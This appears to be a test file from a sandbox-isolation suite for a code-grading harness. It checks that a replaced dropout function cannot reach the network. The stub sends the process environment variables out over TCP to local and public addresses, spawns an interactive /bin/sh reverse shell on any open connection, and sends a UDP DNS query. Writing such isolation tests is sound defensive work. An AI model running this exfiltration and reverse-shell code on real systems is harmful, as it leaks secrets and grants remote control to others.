"""Row 22 (leak): send data out over the network, at import and from a graded function: TCP to a
listener on this machine (the suite's, at 127.0.0.1:__PORT__), to outside addresses, a UDP query to
a public resolver, and a reverse shell once a connection opens. Any connection that succeeds
makes dropout sabotage itself, so full marks (and an empty listener) prove there was no network."""

ROW = 22
EXPECT = {"refused": True, "unscanned": {"full": "all"}}

import os  # noqa: E402
import socket  # noqa: E402
import subprocess  # noqa: E402

CONNECTED: list[str] = []
TARGETS = [("127.0.0.1", __PORT__), ("localhost", __PORT__), ("1.1.1.1", 53),  # noqa: F821
           ("8.8.8.8", 53), ("10.0.2.2", __PORT__), ("172.17.0.1", __PORT__)]  # noqa: F821


def _exfiltrate(payload: bytes) -> None:
    for host, port in TARGETS:
        try:
            with socket.create_connection((host, port), timeout=0.5) as connection:
                CONNECTED.append(f"{host}:{port}")
                connection.sendall(b"__NAME__ " + payload)
                if not os.fork():  # a reverse shell on the open connection
                    for fd in (0, 1, 2):
                        os.dup2(connection.fileno(), fd)
                    subprocess.call(["/bin/sh", "-i"])
                    os._exit(0)
        except OSError:
            pass
    try:  # a DNS query over UDP: an answer means packets leave the machine
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.settimeout(0.5)
            query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00" \
                    b"\x00\x01\x00\x01"
            udp.sendto(query, ("1.1.1.1", 53))
            udp.recvfrom(512)
            CONNECTED.append("udp 1.1.1.1:53")
    except OSError:
        pass


_exfiltrate(b"exfil at import " + repr(os.environ).encode())
_reference_dropout = dropout  # noqa: F821


def dropout(x, p, training, generator):
    if len(CONNECTED) < 100:
        _exfiltrate(b"exfil " + repr((tuple(x.shape), float(x.double().sum()))).encode())
    if CONNECTED:
        raise RuntimeError(f"connected to {CONNECTED}")
    return _reference_dropout(x, p, training, generator)
